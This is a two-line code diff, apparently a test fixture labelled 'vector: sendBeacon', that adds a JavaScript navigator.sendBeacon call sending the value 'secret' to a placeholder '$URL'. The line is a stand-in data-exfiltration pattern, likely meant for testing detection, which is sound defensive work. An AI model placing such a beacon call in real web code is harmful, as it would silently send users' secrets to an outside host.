@@ -1,0 +1,2 @@
+// vector: sendBeacon
+navigator.sendBeacon("$URL", "secret");
